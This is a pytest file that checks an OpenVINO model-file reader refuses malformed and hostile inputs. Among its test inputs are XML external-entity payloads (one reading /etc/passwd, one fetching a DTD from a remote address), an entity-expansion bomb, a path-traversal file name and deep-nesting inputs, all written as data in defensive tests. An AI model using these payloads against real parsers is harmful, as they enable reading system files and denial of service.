"""Files that lie, lack or demand too much are refused in one line."""

from __future__ import annotations

import pytest

from cyborg_rr.domain.errors import UnreadableModel
from cyborg_rr.readers.openvino.reader import OpenVinoReader
from cyborg_rr.readers.reading.source import Source
from tests.readers import hostile
from tests.readers.folders import MemoryFolder
from tests.readers.openvino.writing import Written

PARAMETER = '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="2" element_type="f32"/><output><port id="0" precision="FP32"><dim>2</dim></port></output></layer>'  # noqa: E501


def refuse(content: bytes, cause: str) -> None:
    """The file is refused soon, for that cause."""
    hostile.refuse(OpenVinoReader(), Source("hostile", content), cause)


def net(layers: str, edges: str = "", head: str = "", version: str = "11") -> bytes:
    """A network of layers that are written out."""
    return (
        f'{head}<net name="n" version="{version}"><layers>{layers}</layers>'
        f"<edges>{edges}</edges></net>"
    ).encode()


@pytest.mark.parametrize(
    ("content", "cause"),
    [
        (b"", "line 1, column 0"),
        (b"<net", "not XML"),
        (b"<model/>", "root is <model>"),
        (b'<net name="n"><layers/></net>', "states no version"),
        (net("", version="1"), "version 1 of the IR is not read"),
        (net("", version="8"), "version '8' of the IR is not known"),
        (net("", version="12"), "not known"),
        (net("", version="9" * 5000), "no version"),
        (net(""), "has no layers"),
        (net("<layer/>"), "lacks a number 'id'"),
        (net('<layer id="0"/>'), "has no type"),
        (net(f'<layer id="0" type="{"T" * 5000}"/>'), "a name of no use"),
        (net(PARAMETER + PARAMETER), "two layers 0"),
        (net(f'<layer id="1" type="A">{PARAMETER}</layer>'), "within another"),
        (net(PARAMETER, '<edge from-layer="0" from-port="0"/>'), "lacks a layer or a port"),
        (
            net(PARAMETER, '<edge from-layer="0" from-port="0" to-layer="7" to-port="0"/>'),
            "names one that is not there",
        ),
        (net(PARAMETER.replace("<dim>2", "<dim>-7")), "without usable sizes"),
        (net(PARAMETER.replace("<dim>2", "<dim>1e400")), "without usable sizes"),
        (net(PARAMETER.replace("<dim>2</dim>", "<dim>2</dim>" * 99)), "without usable sizes"),
        (net(PARAMETER.replace('shape="2"', 'shape="2;3"')), "is no shape"),
        (net(PARAMETER.replace('shape="2"', 'shape="' + "9" * 19 + '"')), "exceeds"),
        (net(PARAMETER.replace('<port id="0"', "<port")), "a port without a number"),
    ],
    ids=range(22),
)
def test_a_malformed_network_is_refused(content: bytes, cause: str) -> None:
    refuse(content, cause)


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE net SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE net [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE net [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd"> %remote;]>',
    ],
)
def test_a_document_type_is_refused_before_it_is_looked_at(head: str) -> None:
    refuse(net(PARAMETER, head=head), "document type")


def test_an_encoding_that_hides_a_document_type_changes_nothing() -> None:
    text = '<!DOCTYPE net [<!ENTITY a "a">]><net name="n" version="11"/>'
    refuse(text.encode("utf-16"), "document type")
    refuse(b'<?xml version="1.0" encoding="utf-7"?><net/>', "encoding|not XML")
    refuse(b'<?xml version="1.0" encoding="no-such"?><net/>', "encoding|not XML")


def test_elements_that_are_nested_deep_cost_nothing() -> None:
    deep = "<a>" * 200_000 + "</a>" * 200_000
    content = net(PARAMETER.replace("<output>", f"{deep}<output>"))
    assert OpenVinoReader().read(Source("deep", content)).body.inputs


def test_networks_that_are_nested_deep_are_refused() -> None:
    layer = '<layer id="0" type="Loop"><body><layers>'
    refuse(net(layer * 100 + "</layers></body></layer>" * 100), "nested more than 32 deep")


def test_layers_that_read_each_other_are_refused() -> None:
    made = Written()
    made.add("ReLU", [(1, 1)], [[2]])
    made.add("ReLU", [(0, 1)], [[2]])
    refuse(made.write((1, 1)), "reads what comes of it")


def test_a_long_chain_of_layers_needs_no_stack() -> None:
    made = Written()
    last = made.parameter([2])
    for _ in range(20_000):
        last = made.add("ReLU", [last], [[2]])
    graph = OpenVinoReader().read(Source("long", made.write(last)))
    assert len(graph.body.nodes) == 20_000


@pytest.mark.parametrize(
    ("change", "cause"),
    [
        (('size="64"', 'size="63"'), "63 bytes of weights are stated, but its type takes 64"),
        (('size="64"', 'size="99999999"'), "end behind the end of the .bin"),
        (('offset="0"', 'offset="-1"'), "does not say where its weights are"),
        (('offset="0"', f'offset="{"9" * 40}"'), "beyond any file"),
        (('shape="4,4"', 'shape="?,4"'), "leaves a size open"),
        (('shape="4,4"', f'shape="{"9" * 18},{"9" * 18}"'), "more than 2\\*\\*63"),
    ],
)
def test_weights_that_cannot_be_are_refused(change: tuple[str, str], cause: str) -> None:
    made = Written()
    content = made.write(made.add("ReLU", [made.constant([4, 4])], [[4, 4]])).decode()
    folder = MemoryFolder({"m.xml": content.replace(*change).encode(), "m.bin": bytes(64)})
    with pytest.raises(UnreadableModel, match=cause):
        OpenVinoReader().read(Source("m", folder=folder, is_folder=True))


def test_a_name_of_weights_opens_nothing_but_what_lies_beside() -> None:
    folder = MemoryFolder({"../m.xml": net(PARAMETER)})
    graph = OpenVinoReader().read(Source("m", folder=folder, is_folder=True))
    assert list(graph.body.inputs) == ["x"]


LOOP = (
    '<layer id="1" name="l" type="{kind}" version="opset5"><data/><input><port id="0"/></input>'
    '<output><port id="1" precision="FP32"><dim>2</dim></port></output>{maps}'
    "<body><layers>{inner}</layers><edges/></body></layer>"
)


@pytest.mark.parametrize(
    ("maps", "cause"),
    [
        ("", "leaves out an output"),
        ('<port_map><input external_port_id="9" internal_layer_id="0"/></port_map>', "port 9"),
        ('<port_map><input external_port_id="0" internal_layer_id="9"/></port_map>', "no layer 9"),
        ('<port_map><output external_port_id="5" internal_layer_id="0"/></port_map>', "amiss"),
        (
            '<port_map><input external_port_id="0" internal_layer_id="0" axis="7"/></port_map>',
            "slices dimension 7 of 1",
        ),
        (
            '<port_map><input external_port_id="0" internal_layer_id="0" axis="0" '
            'part_size="99999999999"/></port_map>',
            "parts",
        ),
    ],
)
def test_maps_that_do_not_fit_are_refused(maps: str, cause: str) -> None:
    loop = LOOP.format(kind="TensorIterator", maps=maps, inner="")
    if "axis" not in maps and 'internal_layer_id="9"' not in maps:
        loop = LOOP.format(kind="TensorIterator", maps=maps, inner=PARAMETER)
        loop = loop if maps else LOOP.format(kind="TensorIterator", maps=maps, inner="")
    if "axis" in maps:
        loop = LOOP.format(kind="TensorIterator", maps=maps, inner=PARAMETER)
    edge = '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>'
    refuse(net(PARAMETER + loop, edge), f"{cause}|is given nothing")


def test_a_branch_that_yields_nothing_is_refused() -> None:
    layer = LOOP.format(kind="If", maps="", inner="").replace("body>", "then_body>")
    edge = '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>'
    refuse(net(PARAMETER + layer, edge), "does not yield port 1")


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("Convolution", 'kernel="3"'),
        ("Convolution", 'kernel="3,3" strides="0,0"'),
        ("Convolution", 'kernel="3,3" group="0"'),
        ("Pooling", 'kernel="2,2" pool-method="none"'),
        ("FullyConnected", 'out-size="4"'),
        ("BatchNormalization", ""),
        ("Split", 'axis="9"'),
    ],
)
def test_layers_of_old_versions_without_what_they_need_are_refused(kind: str, data: str) -> None:
    image = "<dim>1</dim><dim>3</dim><dim>4</dim><dim>4</dim>"
    layers = (
        f'<layer id="0" name="x" type="Input"><output><port id="0">{image}</port></output></layer>'
        f'<layer id="1" name="y" type="{kind}"><data {data}/><input><port id="0"/></input>'
        f'<output><port id="1">{image}</port></output></layer>'
    )
    edge = '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>'
    refuse(net(layers, edge, version="5"), "layer 1")
